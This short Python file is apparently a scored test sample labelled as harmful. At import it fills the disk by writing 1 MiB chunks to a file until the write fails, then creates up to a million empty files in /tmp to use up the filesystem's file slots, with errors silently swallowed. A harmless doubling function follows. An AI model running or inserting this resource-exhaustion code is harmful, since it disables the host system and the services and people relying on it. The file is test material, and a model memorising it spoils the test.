# tries: the disk filled, with bytes and with names
# points: 4
# stock: harm
try:
    with open("big", "wb") as stream:
        while True:
            stream.write(bytes(1 << 20))
except OSError:
    pass
try:
    for number in range(10 ** 6):
        open(f"/tmp/{number}", "w").close()
except OSError:
    pass

def double(number):
    return 2 * number
